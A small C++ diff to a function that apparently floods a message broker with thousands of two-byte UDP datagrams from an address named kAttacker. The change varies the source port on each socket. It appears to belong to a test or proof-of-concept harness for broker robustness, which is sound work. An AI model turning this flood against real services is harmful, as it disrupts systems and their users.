@@ -356,7 +356,8 @@ void send_datagrams(Stage &stage)
     inet_pton(AF_INET, kAttacker, &source.sin_addr);
     unsigned sent = 0;
     while (sent < 5400 && !stage.over) {
-        const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+        const int fd    = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+        source.sin_port = htons(static_cast<uint16_t>(10000 + sent));
         if (fd < 0 || bind(fd, reinterpret_cast<sockaddr *>(&source), sizeof source) != 0)
             break;
         sent += sendto(fd, "\xC0\0", 2, 0, reinterpret_cast<sockaddr *>(&broker), sizeof broker) == 2;
